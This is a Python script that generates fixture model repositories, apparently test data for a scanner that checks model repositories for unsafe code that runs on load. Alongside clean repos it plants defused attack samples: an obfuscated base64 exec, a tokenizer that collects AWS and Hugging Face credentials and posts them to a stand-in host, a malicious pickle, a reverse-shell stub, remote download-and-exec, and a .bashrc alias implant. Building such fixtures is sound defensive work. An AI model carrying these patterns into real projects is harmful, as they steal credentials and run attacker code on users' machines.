import json, os, struct, zipfile, io, textwrap
R = os.path.join(os.path.dirname(os.path.abspath(__file__)), "repos")
def w(path, text):
    p = os.path.join(R, path); os.makedirs(os.path.dirname(p), exist_ok=True)
    if isinstance(text, bytes): open(p, "wb").write(text)
    else: open(p, "w").write(textwrap.dedent(text).lstrip("\n"))
def j(path, obj): w(path, json.dumps(obj, indent=2) + "\n")
def safetensors(names):
    header = {n: {"dtype": "F32", "shape": [2], "data_offsets": [i*8, i*8+8]} for i, n in enumerate(names)}
    header["__metadata__"] = {"format": "pt"}
    h = json.dumps(header).encode(); h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + b"\x00" * (8 * len(names))
def torch_zip(pickle_bytes, name="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", pickle_bytes)
        z.writestr(f"{name}/version", "3\n")
        z.writestr(f"{name}/data/0", b"\x00" * 16)
    return buf.getvalue()
# protocol-2 pickle: OrderedDict() built benignly
benign_pkl = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."
# names posix.system and calls it with "true" (harmless if ever executed)
evil_pkl = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."

# 1 hf-builtin-bert: data only
j("hf-builtin-bert/config.json", {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8})
j("hf-builtin-bert/tokenizer_config.json", {"tokenizer_class": "BertTokenizer", "model_max_length": 512})
j("hf-builtin-bert/tokenizer.json", {"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0}}})
w("hf-builtin-bert/model.safetensors", safetensors(["embeddings.weight", "pooler.bias"]))

# 2 hf-custom-clean: auto_map + relative imports two deep + list-form tokenizer auto_map
j("hf-custom-clean/config.json", {"model_type": "tinylm", "architectures": ["TinyModel"],
   "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel",
                "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM"}})
j("hf-custom-clean/tokenizer_config.json", {"tokenizer_class": "TinyTokenizer",
   "auto_map": ["tokenization_tiny.TinyTokenizer", None], "pad_token": "<pad>", "eos_token": "</s>"})
w("hf-custom-clean/configuration_tiny.py", '''
    from transformers import PretrainedConfig


    class TinyConfig(PretrainedConfig):
        model_type = "tinylm"

        def __init__(self, hidden_size=8, num_layers=1, **kwargs):
            self.hidden_size = hidden_size
            self.num_layers = num_layers
            super().__init__(**kwargs)
''')
w("hf-custom-clean/modeling_tiny.py", '''
    import torch
    from torch import nn
    from transformers import PreTrainedModel

    from .configuration_tiny import TinyConfig
    from .layers.block import TinyBlock


    class TinyModel(PreTrainedModel):
        config_class = TinyConfig

        def __init__(self, config):
            super().__init__(config)
            self.blocks = nn.ModuleList(TinyBlock(config.hidden_size) for _ in range(config.num_layers))
            self.post_init()

        def _init_weights(self, module):
            if isinstance(module, nn.Linear):
                module.weight.data.normal_(mean=0.0, std=0.02)

        def forward(self, hidden):
            for block in self.blocks:
                hidden = block(hidden)
            return hidden


    class TinyForCausalLM(TinyModel):
        def forward(self, hidden):
            assert hidden.dim() == 3, "expected (batch, seq, hidden)"
            return torch.tanh(super().forward(hidden))
''')
w("hf-custom-clean/layers/__init__.py", "")
w("hf-custom-clean/layers/block.py", '''
    from torch import nn

    from .norm import RMSNorm


    class TinyBlock(nn.Module):
        def __init__(self, size):
            super().__init__()
            self.norm = RMSNorm(size)
            self.proj = nn.Linear(size, size)

        def forward(self, x):
            return x + self.proj(self.norm(x))
''')
w("hf-custom-clean/layers/norm.py", '''
    import torch
    from torch import nn


    class RMSNorm(nn.Module):
        def __init__(self, size, eps=1e-6):
            super().__init__()
            self.weight = nn.Parameter(torch.ones(size))
            self.eps = eps

        def forward(self, x):
            return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)
''')
w("hf-custom-clean/tokenization_tiny.py", '''
    from transformers import PreTrainedTokenizer


    class TinyTokenizer(PreTrainedTokenizer):
        def __init__(self, vocab=None, pad_token="<pad>", eos_token="</s>", **kwargs):
            self.vocab = vocab or {"<pad>": 0, "</s>": 1}
            super().__init__(pad_token=pad_token, eos_token=eos_token, **kwargs)

        @property
        def vocab_size(self):
            return len(self.vocab)

        def get_vocab(self):
            return dict(self.vocab)

        def _tokenize(self, text):
            return text.split()
''')
w("hf-custom-clean/scripts/train.py", '''
    """Training script shipped with the repo; no loader imports it."""
    import subprocess


    def launch(nodes):
        subprocess.run(["torchrun", f"--nnodes={nodes}", "train.py"], check=True)
''')
w("hf-custom-clean/model.safetensors", safetensors(["blocks.0.proj.weight"]))

# 3 hf-backdoor-helper: payload two relative imports away, obfuscated
j("hf-backdoor-helper/config.json", {"model_type": "fastlm", "auto_map": {
    "AutoConfig": "configuration_fast.FastConfig", "AutoModelForCausalLM": "modeling_fast.FastForCausalLM"}})
w("hf-backdoor-helper/configuration_fast.py", '''
    from transformers import PretrainedConfig


    class FastConfig(PretrainedConfig):
        model_type = "fastlm"
''')
w("hf-backdoor-helper/modeling_fast.py", '''
    from torch import nn
    from transformers import PreTrainedModel

    from .configuration_fast import FastConfig
    from .kernels.loader import warm_cache


    class FastForCausalLM(PreTrainedModel):
        config_class = FastConfig

        def __init__(self, config):
            super().__init__(config)
            self.lm_head = nn.Linear(8, 8)
            self.post_init()

        def _init_weights(self, module):
            warm_cache(module)
''')
w("hf-backdoor-helper/kernels/__init__.py", "")
w("hf-backdoor-helper/kernels/loader.py", '''
    import base64

    from .telemetry import report

    # Looks like a kernel warm-up; decodes and runs a command (harmless here: `true`).
    _BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInRydWUiKQ=="


    def warm_cache(module):
        exec(base64.b64decode(_BLOB).decode())
        report(type(module).__name__)
''')
w("hf-backdoor-helper/kernels/telemetry.py", '''
    import socket

    _fn = getattr(__import__("o" + "s"), "sys" + "tem")


    def report(name):
        # exfiltration stand-in: talks to loopback only
        with socket.create_connection(("127.0.0.1", 9), timeout=0.1) as conn:
            conn.sendall(name.encode())
        _fn("true")
''')

# 4 hf-tokenizer-stealer: tokenizer-only custom code reads credential paths
j("hf-tokenizer-stealer/config.json", {"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"]})
j("hf-tokenizer-stealer/tokenizer_config.json", {"auto_map": {"AutoTokenizer": [
    "tokenization_fancy.FancyTokenizer", "tokenization_fancy.FancyTokenizerFast"]},
    "bos_token": "<|endoftext|>", "eos_token": "<|endoftext|>"})
w("hf-tokenizer-stealer/tokenization_fancy.py", '''
    import os
    import tempfile
    import urllib.request

    from transformers import GPT2Tokenizer, GPT2TokenizerFast

    # Test sample: the "home" is a temp dir, the host is .invalid; nothing real leaves.
    _HOME = os.path.join(tempfile.gettempdir(), "loadguard-fake-home")


    def _collect():
        found = {}
        for rel in (".aws/credentials", ".cache/huggingface/token", ".netrc"):
            path = os.path.join(_HOME, rel)
            if os.path.exists(path):
                with open(path) as handle:
                    found[rel] = handle.read()
        found["token"] = os.environ.get("HF_TOKEN", "")
        return found


    def _ship(data):
        request = urllib.request.Request("https://collector.example.invalid/t", data=repr(data).encode())
        try:
            urllib.request.urlopen(request, timeout=1)
        except OSError:
            pass


    class FancyTokenizer(GPT2Tokenizer):
        pass


    class FancyTokenizerFast(GPT2TokenizerFast):
        def __init__(self, *args, **kwargs):
            _ship(_collect())
            super().__init__(*args, **kwargs)
''')

# 5 hf-cross-repo: code from another repo, trust flag switched on by the repo itself
j("hf-cross-repo/config.json", {"model_type": "sharedlm", "trust_remote_code": True, "auto_map": {
    "AutoConfig": "shared-org/sharedlm-code--configuration_shared.SharedConfig",
    "AutoModel": "shared-org/sharedlm-code--modeling_shared.SharedModel"}})
w("hf-cross-repo/model.safetensors", safetensors(["w"]))

# 6 hf-pickle-payload: torch zip checkpoint whose pickle calls posix.system
j("hf-pickle-payload/config.json", {"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"]})
w("hf-pickle-payload/pytorch_model.bin", torch_zip(evil_pkl))
w("hf-pickle-payload/training_args.bin", torch_zip(benign_pkl))

# 7 st-custom-pooling: sentence-transformers custom module
j("st-custom-pooling/modules.json", [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_pooling.AttentionPooling"}])
j("st-custom-pooling/config.json", {"model_type": "bert", "architectures": ["BertModel"]})
w("st-custom-pooling/custom_pooling.py", '''
    import torch
    from torch import nn


    class AttentionPooling(nn.Module):
        def __init__(self, dim=8):
            super().__init__()
            self.score = nn.Linear(dim, 1)

        def forward(self, features):
            tokens = features["token_embeddings"]
            weights = torch.softmax(self.score(tokens), dim=1)
            features["sentence_embedding"] = (weights * tokens).sum(1)
            return features

        @classmethod
        def load(cls, path):
            return cls()
''')
w("st-custom-pooling/model.safetensors", safetensors(["pooler"]))

# 8 diffusers-custom-pipeline
j("diffusers-custom-pipeline/model_index.json", {"_class_name": ["pipeline", "TinyImagePipeline"],
    "_diffusers_version": "0.42.1", "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["unet_tiny", "TinyUNet"]})
w("diffusers-custom-pipeline/pipeline.py", '''
    from diffusers import DiffusionPipeline


    class TinyImagePipeline(DiffusionPipeline):
        def __init__(self, unet, scheduler):
            super().__init__()
            self.register_modules(unet=unet, scheduler=scheduler)

        def __call__(self, steps=2):
            return [self.unet.sample() for _ in range(steps)]
''')
j("diffusers-custom-pipeline/unet/config.json", {"_class_name": "TinyUNet"})
w("diffusers-custom-pipeline/unet/unet_tiny.py", '''
    import torch
    from diffusers import ModelMixin


    class TinyUNet(ModelMixin):
        def sample(self):
            return torch.zeros(1)
''')
w("diffusers-custom-pipeline/unet/diffusion_pytorch_model.safetensors", safetensors(["conv"]))

# 9 torchhub-vision (benign) with helper modules
w("torchhub-vision/hubconf.py", '''
    dependencies = ["torch", "torchvision"]

    from models.resnet import resnet18_tiny
    from models.utils import load_pretrained


    def tiny_classifier(pretrained=False, **kwargs):
        """A tiny classifier."""
        model = resnet18_tiny(**kwargs)
        if pretrained:
            load_pretrained(model, "https://download.example.invalid/tiny.pth")
        return model


    def _private_helper():
        return None
''')
w("torchhub-vision/models/__init__.py", "")
w("torchhub-vision/models/resnet.py", '''
    from torch import nn


    def resnet18_tiny(num_classes=10):
        return nn.Sequential(nn.Flatten(), nn.Linear(784, num_classes))
''')
w("torchhub-vision/models/utils.py", '''
    import torch


    def load_pretrained(model, url):
        state = torch.hub.load_state_dict_from_url(url, map_location="cpu", weights_only=True)
        model.load_state_dict(state)
''')

# 10 torchhub-installer (malicious): pip install + reverse shell stand-in at import
w("torchhub-installer/hubconf.py", '''
    dependencies = ["torch"]

    from setup_env import ensure_runtime
    from net import DetectionNet

    ensure_runtime()


    def detector(pretrained=False):
        return DetectionNet()
''')
w("torchhub-installer/setup_env.py", '''
    import subprocess
    import sys


    def ensure_runtime():
        # installs an unpinned package from an index the repo controls
        subprocess.call([sys.executable, "-m", "pip", "install", "--index-url",
                         "https://pypi.example.invalid/simple", "fastops"],
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''')
w("torchhub-installer/net.py", '''
    import os
    import pty
    import socket
    import threading

    from torch import nn


    def _shell():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.connect(("127.0.0.1", 9))
        except OSError:
            return
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/true")


    class DetectionNet(nn.Module):
        def __init__(self):
            super().__init__()
            threading.Thread(target=_shell, daemon=True).start()
            self.head = nn.Linear(4, 4)
''')

# 11 mmlab-det-config: _base_ chain, custom_imports module with a payload, registry type naming os.system
w("mmlab-det-config/configs/_base_/models/tiny_det.py", '''
    model = dict(type="TinyDetector", backbone=dict(type="ResNet", depth=18), neck=None)
''')
w("mmlab-det-config/configs/_base_/default_runtime.py", '''
    default_scope = "mmdet"
    log_level = "INFO"
''')
w("mmlab-det-config/configs/tiny/tiny_det_1x.py", '''
    _base_ = ["../_base_/models/tiny_det.py", "../_base_/default_runtime.py"]

    custom_imports = dict(imports=["projects.tinydet.hooks"], allow_failed_imports=False)

    train_cfg = dict(max_epochs=12)
    custom_hooks = [dict(type="SyncCacheHook"), dict(type="os.system", command="true")]
''')
w("mmlab-det-config/projects/__init__.py", "")
w("mmlab-det-config/projects/tinydet/__init__.py", "")
w("mmlab-det-config/projects/tinydet/hooks.py", '''
    import os

    from mmengine.hooks import Hook
    from mmengine.registry import HOOKS

    # runs when the config is loaded: appends to a shell rc file (test: a temp "home")
    _RC = os.path.join(os.environ.get("TMPDIR", "/tmp"), "loadguard-fake-home", ".bashrc")
    if os.path.isdir(os.path.dirname(_RC)):
        with open(_RC, "a") as rc:
            rc.write("alias sudo='echo pwned'\\n")


    @HOOKS.register_module()
    class SyncCacheHook(Hook):
        def before_run(self, runner):
            pass
''')
w("mmlab-det-config/configs/tiny/tiny_det_unsafe.yaml", '''
    model:
      type: TinyDetector
    hook: !!python/object/apply:os.system ["true"]
''')

# 12 ms-allow-remote: ModelScope configuration.json allow_remote + plugins
j("ms-allow-remote/configuration.json", {"framework": "pytorch", "task": "text-classification",
    "allow_remote": True, "plugins": ["ms-fastops-plugin"],
    "model": {"type": "tiny-classifier"}, "pipeline": {"type": "tiny-classification"}})
w("ms-allow-remote/ms_wrapper.py", '''
    from modelscope.pipelines.base import Pipeline


    class TinyClassificationPipeline(Pipeline):
        def preprocess(self, inputs):
            return inputs

        def forward(self, inputs):
            return {"label": 0}

        def postprocess(self, outputs):
            return outputs
''')
w("ms-allow-remote/model_utils.py", '''
    import urllib.request

    # fetched at import, then executed: download-and-run without integrity check
    _code = urllib.request.urlopen("https://cdn.example.invalid/patch.py", timeout=1).read()
    exec(compile(_code, "patch", "exec"))
''')
w("ms-allow-remote/requirements.txt", "torch>=2.0\ngit+https://git.example.invalid/fastops.git\n")

# 13 hf-custom-generate-kernel: custom_generate + hub kernel + adapter redirect
j("hf-generate-kernel/config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"],
    "attn_implementation": "fastattn-org/flash-kernels"})
w("hf-generate-kernel/custom_generate/generate.py", '''
    import torch


    def generate(model, input_ids, max_new_tokens=4, **kwargs):
        out = input_ids
        for _ in range(max_new_tokens):
            logits = model(out).logits[:, -1]
            out = torch.cat([out, logits.argmax(-1, keepdim=True)], dim=-1)
        return out
''')
w("hf-generate-kernel/custom_generate/requirements.txt", "torch>=2.4\n")
w("hf-generate-kernel/model.safetensors", safetensors(["lm_head.weight"]))

# 14 peft-adapter redirect
j("peft-adapter/adapter_config.json", {"peft_type": "LORA", "base_model_name_or_path": "base-org/base-7b",
    "r": 8, "target_modules": ["q_proj", "v_proj"]})
w("peft-adapter/adapter_model.safetensors", safetensors(["lora_A"]))
print("ok")
